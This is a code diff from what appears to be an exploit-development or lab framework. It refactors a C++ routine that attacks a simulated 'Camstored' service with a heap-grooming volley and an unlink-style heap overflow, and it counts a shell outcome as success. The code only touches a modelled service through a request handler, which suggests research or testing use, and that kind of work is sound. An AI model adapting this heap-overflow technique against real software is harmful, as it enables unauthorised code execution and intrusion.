@@ -4,7 +4,6 @@
 #include "src/adapt/resolvd.hpp"
 #include "src/dns/craft.hpp"
 #include "src/exploit/generator.hpp"
-#include "src/exploit/heap_smash.hpp"
 
 namespace connlab::adapt {
 
@@ -111,15 +110,12 @@ util::Result<AdaptResult> AttackCamstored(isa::Arch arch,
                            exploit::BuildHeapUnlinkPlan(profile));
   result.payload_bytes = plan.overflow_body.size();
 
-  // The groom phase must go through cleanly; anything else means the heap
-  // layout drifted and the plan's addresses are stale.
-  const util::Bytes volley[3] = {
-      Camstored::WrapInPut(plan.benign_body, "pad", plan.groom_size),
-      Camstored::WrapInPut(plan.victim_body, "vic", plan.victim_size),
-      Camstored::WrapInPut(plan.overflow_body, "pad", plan.groom_size),
-  };
-  for (const util::Bytes& request : volley) {
-    ServiceOutcome staged = service.HandleRequest(request);
+  // The groom phase (every request but the last) must go through cleanly;
+  // anything else means the heap layout drifted and the plan's addresses
+  // are stale.
+  const std::vector<util::Bytes> volley = Camstored::UnlinkVolley(plan);
+  for (std::size_t i = 0; i + 1 < volley.size(); ++i) {
+    ServiceOutcome staged = service.HandleRequest(volley[i]);
     if (staged.kind != ServiceOutcome::Kind::kOk) {
       result.kind = staged.kind;
       result.detail = "groom request failed: " + staged.detail;
@@ -128,8 +124,7 @@ util::Result<AdaptResult> AttackCamstored(isa::Arch arch,
   }
   // The delete frees the victim whose boundary tags now point at the fake
   // chunk — the allocator performs the unlink write, the flush hook fires.
-  ServiceOutcome outcome =
-      service.HandleRequest(Camstored::WrapInDelete("vic"));
+  ServiceOutcome outcome = service.HandleRequest(volley.back());
   result.kind = outcome.kind;
   result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
   result.detail = outcome.detail;
